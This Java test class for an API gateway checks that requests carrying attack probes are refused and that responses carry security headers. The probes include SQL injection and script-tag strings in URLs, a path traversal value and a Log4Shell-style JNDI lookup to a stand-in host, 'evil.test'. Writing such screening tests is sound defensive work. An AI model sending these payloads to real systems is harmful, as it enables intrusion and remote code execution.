package dev.souk.gateway;

import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import dev.souk.common.web.test.TestTokens;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is refused for its form, and what every answer carries. */
class ScreeningTests extends RunningEdge {

    private static final String TOKEN = TestTokens.shopper(UUID.randomUUID()).bearer();

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/search?q=1%27%20OR%20%271%27=%271",
            "/api/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/api/v1/search?q=%253Cscript%253E", "/api/v1/products?cursor=..%2f..%2fetc",
            "/api/v1/products/1%27%20or%201=1--"})
    void aProbeInAnAddressIsRefusedAndTheClientToldWhy(String path) {
        Http.Answer answer = edge.get(path);

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.problem()).isEqualTo("looks-like-an-attack");
        assertThat(SERVICE.getAllServeEvents()).isEmpty();
    }

    @Test
    void anAddressWithACharacterThatIsNoneIsRefused() {
        Http.Answer answer = edge.get("/api/v1/search?q=a%00b");

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.problem()).isEqualTo("invalid-request");
        assertThat(SERVICE.getAllServeEvents()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Referer", "X-Other", "Cart-Id", "Idempotency-Key"})
    void aProbeInAHeaderIsRefused(String header) {
        assertThat(edge.get("/api/v1/products", header, "${jndi:ldap://evil.test/a}").status()).isEqualTo(400);
    }

    @Test
    void headersAsBrowsersAndProxiesSendThemPass() {
        assertThat(
                edge.get("/api/v1/products", "Sec-CH-UA", "\"Chromium\";v=\"141\", \"Not A;Brand\";v=\"8\"", "Cookie",
                        "theme=\"dark\"; seen=1", "Forwarded", "for=\"[2001:db8::1]\";proto=https", "Referer",
                        "https://shop.example/search?q=select").status())
                .isEqualTo(200);
    }

    @Test
    void aReviewMaySaySelectAndAnythingElse() {
        Http.Answer answer = edge.post("/api/v1/products/1/reviews",
                BodyPublishers
                        .ofString("{\"text\": \"I select * from <b>all</b> bags'; drop table no more -- <script>\"}"),
                "Authorization", TOKEN, "Content-Type", "application/json");

        assertThat(answer.status()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"text/xml", "application/x-java-serialized-object", "nonsense"})
    void aBodyOfAKindThatNobodyReadsIsRefused(String contentType) {
        Http.Answer answer = edge.post("/api/v1/orders", BodyPublishers.ofString("<a/>"), "Authorization", TOKEN,
                "Content-Type", contentType);

        assertThat(answer.status()).isEqualTo(415);
        assertThat(answer.problem()).isEqualTo("unsupported-media-type");
    }

    @Test
    void aMethodThatNobodyServesIsRefused() {
        assertThat(edge.call("PROPFIND", "/api/v1/products").status()).isEqualTo(400);
        assertThat(SERVICE.getAllServeEvents()).isEmpty();
    }

    @Test
    void tooManyHeadersAreRefused() {
        String[] headers = IntStream.range(0, 70).boxed().flatMap(number -> Stream.of("X-Header-" + number, "a"))
                .toArray(String[]::new);

        assertThat(edge.get("/api/v1/products", headers).status()).isEqualTo(431);
    }

    @Test
    void tooLongHeadersAreRefused() {
        assertThat(edge.get("/api/v1/products", "X-Long", "a".repeat(20_000)).status()).isEqualTo(431);
    }

    @Test
    void everyAnswerTellsTheBrowserToBeCareful() {
        for (String path : new String[]{"/api/v1/products", "/nowhere", "/api/v1/orders"}) {
            Http.Answer answer = edge.get(path);

            assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
            assertThat(answer.header("X-Frame-Options")).isEqualTo("DENY");
            assertThat(answer.header("Referrer-Policy")).isEqualTo("no-referrer");
            assertThat(answer.header("Content-Security-Policy")).startsWith("default-src 'none'");
        }
    }

    @Test
    void noPageOfAnotherOriginIsLetInUnlessItIsNamed() {
        assertThat(edge.get("/api/v1/products", "Origin", "https://evil.test").header("Access-Control-Allow-Origin"))
                .isEmpty();
    }

    @Test
    void aRequestHasANameThatWeGaveAndOneThatTheClientGave() {
        Http.Answer answer = edge.get("/api/v1/products", "X-Request-Id", "mine", "X-Correlation-Id", "basket-7");

        assertThat(answer.header("X-Request-Id")).matches("[0-9a-f]{32}");
        assertThat(answer.header("X-Correlation-Id")).isEqualTo("basket-7");
        SERVICE.verify(getRequestedFor(urlPathEqualTo("/api/v1/products"))
                .withHeader("X-Request-Id", equalTo(answer.header("X-Request-Id")))
                .withHeader("X-Correlation-Id", equalTo("basket-7")));
    }
}
